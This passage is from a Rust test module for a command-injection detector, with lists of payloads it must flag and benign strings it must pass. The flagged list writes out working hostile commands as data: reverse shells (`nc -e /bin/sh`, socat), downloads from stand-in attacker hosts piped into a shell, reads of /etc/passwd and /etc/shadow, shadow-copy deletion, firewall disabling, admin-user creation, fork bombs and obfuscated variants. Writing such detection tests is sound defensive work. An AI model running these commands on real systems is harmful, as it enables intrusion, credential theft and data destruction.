            "|$u wget evil.example",
            "a;$u cat$u /etc$u/passwd$u",
            // A reference outside escaped markup still ends a command; markup does not hide a
            // separator of its own.
            "x&lt;whoami",
            // After a command or an option that runs programs.
            "sudo /bin/bash",
            "x|{wget,evil.example/x}",
            "$({cat,/etc/hosts})",
            "x && env /bin/sh",
            "x; nc -e /bin/sh 10.0.0.1 4444",
            "&lt;b&gt;x&lt;/b&gt;; cat /etc/hosts",
            ";wh$x'o'ami",
            ";gcc10.1<<<x",
            "; flock -u / id",
            "time; ansible all -m ping",
            "/bin/ab",
            "IF (2 GEQ 15) echo big",
            "if /i a==b foo",
            "if not {%1} == {}",
            "& for /f \\\"delims=\\\" %i in ('cmd /c \\\"set /a (6+2)\\\"') do @set x",
            // Words split by what only a shell removes, at the start or after a separator.
            "'wh'oami",
            "\"c\"url localhost",
            ";e\\c\\h\\o test",
            ";c$_at /etc/x",
            "una$$me -a",
            "ping$() 127.0.0.1",
            "/b'i'n/c\\at /etc/x",
            "/usr/bin$u/id",
            "w^h^o^a^m^i",
            // Variables assigned, then run; ANSI-C escapes; `%COMSPEC%`; SSI.
            "a=nc&&$a -nlvp 555",
            "c1=c;c2=a;c3=t;$c1$c2$c3 /etc/x",
            "x=$'\\x69\\x64'",
            "& %COMSPEC% /c dir",
            "<!--#exec cmd=\"ls\"-->",
            // A comment or a redirection as the argument, newlines escaped as text.
            "a';id #",
            ";echo hacked > /var/www/html/x.txt",
            // commix's file-based probe, after each of its separators.
            "127.0.0.1|echo SZWMXD > SZWMXD.txt;",
            "127.0.0.1\necho SZWMXD > SZWMXD.txt\r\n",
            // commix's backtick technique: an assignment from a substitution, `expr`.
            "1\nFEA=`echo HJCPJF`\nFEA1=`expr length \"$FEA\"`\nif [ 1 -eq $FEA1 ]\nthen sleep 5\nfi",
            "1;x=`echo a`;",
            "1|`expr 1 + 2`",
            // nuclei's time-based PowerShell probe.
            ";start-sleep -s 7",
            "\\nid\\n",
            "1\\n/usr/bin/id",
            // Whole-value command lines and reconnaissance.
            "ls -la",
            "dir c:\\",
            "whoami",
            "ipconfig /all",
            "net localgroup administrators",
            "sleep 10",
            "ping -c 5 127.0.0.1",
            "ping -n 30 -w 1000 10.0.0.1",
            // Windows programs by their switches, administration tools by their subcommands.
            "schtasks /create /tn x /tr c:\\x.exe /sc onstart",
            "vssadmin delete shadows /all /quiet",
            "kubectl get pods -A",
            "cmd.exe /c whoami",
            "findstr /si password *.xml",
            "wmic process call create calc.exe",
            "netsh advfirewall set allprofiles state off",
            "net user hacker P@ss1 /add",
            "reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v x /d 0 /f",
            "reg query hklm\\software\\microsoft",
            ";$(tr '[A-Z]' '[a-z]'<<<\"WHOAMI\")",
            "bash<<<$(base64 -d<<<aWQ=)",
            "icm {whoami}",
            "x;Invoke-Command -ScriptBlock { whoami }",
            ";cat /e't'?/pa's'?wd",
            // Arguments read as options that run a command (CWE-88), and cloud CLIs.
            "-oProxyCommand=id",
            "-o ProxyCommand='sh -c id' host",
            "--upload-pack=touch /tmp/pwned",
            "-c core.sshCommand='curl evil.example|sh'",
            "--checkpoint-action=exec=sh shell.sh",
            "--use-compress-program=/tmp/x",
            "x --renderer-cmd-prefix=/bin/sh",
            "--exec=id",
            "-exec cat /etc/shadow ;",
            "x;aws s3 ls",
            "$(aws sts get-caller-identity)",
            // PowerShell cmdlets by their verb-noun shape.
            "x;Get-ChildItem C:\\",
            "a | Out-File C:\\x.txt",
            "& Invoke-WmiMethod -Class Win32_Process",
            // Prefixes that run the next word; subshells; word commands after a bare separator.
            ";time id",
            ";nice -n 5 cat /etc/x",
            ";if true;then id;fi",
            "x & nc -e /bin/sh 10.0.0.1 4444",
            "a & id",
            // A command that closes the value, or one with an argument, inside a record.
            "1;id;",
            "1;id",
            "x';id;'y",
            "a;cat /etc/passwd;b",
            "a;ls -la;b",
            ";command -v id",
            ";(id)",
            ";ps aux",
            "127.0.0.1|ip a",
            "x';ps aux",
            // Windows paths kept whole, program files as arguments.
            "& %windir%\\system32\\whoami.exe",
            "& start calc.exe",
            // PowerShell syntax: static calls, objects, backtick escapes, the call operator.
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "[System.Diagnostics.Process]::Start('calc')",
            "; [Convert]::FromBase64String('aWQ=')",
            "I`E`X (whoami)",
            "; &('i'+'ex') 'whoami'",
            "; & (\"{1}{0}\" -f 'ex','i') whoami",
            "; $env:USERNAME",
            "iwr http://evil.example/x.ps1",
            "socat tcp-connect:10.0.0.1:4444 exec:sh",
            ";openssl s_client -connect 10.0.0.1:443",
            // Fork bombs.
            ":(){ :|:& };:",
            "f(){ f | f; }; f",
            "ping`` 127.0.0.1",
            "f(){ f|f& };f",
            // Outside a product's comment, or a comment not after a product token.
            "Mozilla/5.0; id",
            "curl/8.0 (x); id",
            "x; (id; ls)",
            "Mozilla/5.0 (X11) && cat /etc/passwd",
        ] {
            assert!(rule(a).is_some(), "missed {a}");
        }
    }

    #[test]
    fn prose_passes() {
        for b in [
            "costs nothing; free",
            // State abbreviations after a spaced `&`: Linux runs no `NC` or `SC`.
            "Raleigh & NC - Durham",
            "Charlotte, NC & SC",
            "LC & NC - Boys038-XL.jpg",
            // User-Agent comments: items, inside a `(` no shell accepts after a word.
            "Mozilla/5.0 (Linux; U; Android 4.0.4; id; Axioo_PICOpad_GIM Build/IMM76D)",
            "UCWEB/2.0 (Java; U; Id; samsung-gt-s5233s) U2/1.0.0 UCBrowser/8.9.0.251",
            "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; Touch; rv:11.0) like Gecko",
            "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; &id;)",
            // Delimited records: a European CSV header and line, tags.
            "name;id;email",
            "2024-05-01;42;cat;food",
            "product;size;head;tail",
            "mammal|cat|ears",
            // A JSON Schema evaluation path: a pointer through `$ref`.
            "/properties/multi/allOf/0/$ref/type",
            // npm's default `test` script, in every package manifest a registry webhook sends:
            // `exit` ends a shell, it runs nothing.
            "echo \"Error: no test specified\" && exit 1",
            // Escaped markup (an RSS item, a CMS field): `;` closes references, not commands.
            "&lt;p&gt;See &lt;a href=\"x\"&gt;link&lt;/a&gt; at &lt;time&gt;10:00&lt;/time&gt;&lt;/p&gt;",
            "&lt;em&gt;test&lt;/em&gt; and &lt;strong&gt;whoami&lt;/strong&gt;",
            "&lt;code&gt;ls -la&lt;/code&gt;",
            // A program's path named in prose, after a word that runs nothing.
            "Fixed: use /bin/bash to work around the bug",
            "Register /bin/more as pager alternative",
            // Brace expansion where no command starts: arguments, file names.
            "Build the {file,shell} modules",
            "Added bz{more,less} wrappers",
            "Apply patches/*.{diff,patch} in order",
            "Use vi! It's great",
            "I love vim! cat pictures are great",
            "the .shell file in your home",
            "Run .system checks weekly",
            "Delivery on Monday; free",
            "Price: $0 today",
            "a single file, e.g. `cat ca1-cert.pem ca2-cert.pem > ca-cert.pem`",
            "Set `FOO=bar` first, then `BAR=`",
            "the expr is evaluated; expr values are cached",
            "* `watch(expr)`: Add expression to watch list",
            "It was $0 -c",
            "Tom & Jerry",
            "I love cats; cat lovers unite",
            "rock|paper|scissors",
            "Q&A session; see you there",
            "echo chamber; find out more",
            "Use `cat file` to print",
            "Price: $(5.00)",
            "AT&T; id rather not",
            "a non-breaking space; &copy; 2024 Example Ltd.",
            "3 &times; 4 = 12; &times; is multiplication",
            "one; two; three",
            "listen on ${PORT:-8080}",
            "Hello ${name}, welcome",
            "the /bin directory",
            "Use ``pip`` to install",
            "For each item in (the list) do nothing",
            "if not defined, the default applies",
            "if a == b then c",
            "time flies like an arrow",
            "sleep well",
            "sleep 8 hours",
            "ping me at 5",
            "ping -n 3",
            "f <<< g <<< h",
            "the icm {grouping} note",
            "personal {note}",
            "<<<<<<< HEAD",
            "<<< 'back' to the list",
            "ping 10.0.0.1",
            "ProxyCommand is an ssh_config keyword",
            "a pre-exec hook",
            "--exec is a flag of git rebase",
            "re-exec the binary",
            "evaluate --evaluation",
            "we use aws and gcloud daily",
            "AWS S3 bucket policy",
            "we met; get-together at five",
            "Set-Cookie; HttpOnly",
            "see /docs/[draft]/notes?.md",
            "sh is a shell",
            "Python 3.11 is out; ansible fans rejoice",
            "the chef-d'oeuvre; perf review",
            "aa-battery; time to flock together",
            // GraphQL selections, YAML and lists put one word on a line.
            "query {\n  getPost(id: \"1\") {\n    id\n    title\n    date\n  }\n}",
            "fields:\n  - id\n  - env\n  - time\n",
            "Packing list\nshoes\nwhoami badge\nsocks",
            "ping is a verb; curl is a noun here.",
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB",
            // Options, aliases, tildes and paths in prose and data.
            "Paris - France",
            "Sort -by name is not a flag",
            "Cut -off date",
            "Python -- the language",
            "node - a vertex",
            "rock; time all - day",
            "Q&A; find out -- more",
            "Make -believe",
            "time - 5 minutes",
            "cat -- a poem",
            "Find more at -- the shop",
            "alias John Smith",
            "alias: Johnny",
            "${name} says hi",
            "${total}% off",
            "{red,green}s",
            "see /bin/ab for details",
            "https://example.com/bin/tool",
            "if x==y then z",
            "if (a == b) return",
            "/usr/local/bin/",
            // Contractions, quotes, `$`, `#`, `>` and `\n` in prose and paths.
            "I'd like a cat; it's cute",
            "\"time\" flies",
            "docs/\"time\" notes",
            "Rock'n'roll; ping me later",
            "See item; id # of order",
            "Save output > report",
            "Total: $$ money; $_ is perl",
            "C:\\Users\\Nobody\\ncat.exe",
            "line one\\nline two",
            "<!--# note -->",
            // Markdown inline code in prose; flags and commands in phrases.
            "the `time` crate: date and time",
            "Run `make test`. Then `make install`.",
            "- Use the `kern.arandom` sysctl on NetBSD. [#115]",
            "apply to panics when parsing invalid `TZ` strings or invalid",
            "homogeneous arrays with non-`Copy` inner strategies.",
            "- Constrain `-Clto` and `-Cembed-bitcode` flag inheritance to be `clang`-only",
            "`Regex` type). This means regexes compiled with `bytes::Regex::new` that",
            "Implementations of `Service` take a request",
            "Find -it now",
            "tail -n 5 lines",
            "whoami is a command",
            "net income",
            "net /month",
            "sc /day",
            "lsof scans the /dev or /devices branch",
            "Reg add form",
            "reg add hkumar",
            "net user fees: $5",
            "Please use the netsh tool",
            "netsh",
            // English prefixes, tables, paths and PowerShell words in prose.
            "Great work; nice touch",
            "R&D; cut costs",
            "Q&A; find out more",
            "| Name | Type | Date |\n| --- | --- | --- |",
            "| id | name |",
            "New-Object is a PowerShell cmdlet",
            "the array[0]::x notation",
            "don`t do that",
            "Python https://python.org",
            "a (b) {c} d",
            "use ls; then ask",
        ] {
            assert_eq!(rule(b), None, "false positive on {b}");
        }
    }
}
